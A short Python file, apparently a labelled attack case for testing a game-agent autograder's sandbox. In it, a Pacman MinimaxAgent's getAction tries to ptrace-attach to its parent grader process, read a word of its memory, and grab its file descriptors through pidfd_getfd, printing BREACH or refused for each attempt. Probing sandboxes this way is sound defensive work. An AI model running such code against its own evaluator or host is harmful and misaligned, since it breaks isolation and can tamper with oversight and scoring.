# attack: attaches to its parent as a debugger, by ptrace and by what is near to it.
# where: MinimaxAgent
import ctypes
import os

from shared.attempt import *
from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        for name, request in (("seize", 0x4206), ("attach", 16)):
            if libc.ptrace(request, parent, None, None) == 0:
                print("BREACH:", name, "to the parent", flush=True)
                if request == 16:
                    os.waitpid(parent, 0x40000000)  # __WALL
                    word = libc.ptrace(2, parent, id(None), None)  # PTRACE_PEEKDATA
                    print("BREACH: a word of its memory", word, flush=True)
                libc.ptrace(17, parent, None, None)  # the bound: let go again
            else:
                print("refused:", name, os.strerror(ctypes.get_errno()), flush=True)
        if hasattr(os, "pidfd_open"):
            pidfd = attempt("pidfd_open", os.pidfd_open, parent)
            for theirs in range(8 if pidfd else 0):
                taken = libc.syscall(438, pidfd, theirs, 0)  # pidfd_getfd
                word = "BREACH:" if taken >= 0 else "refused:"
                print(word, "descriptor", theirs, "of the parent", ctypes.get_errno(), flush=True)
        return gameState.getLegalActions()[0]
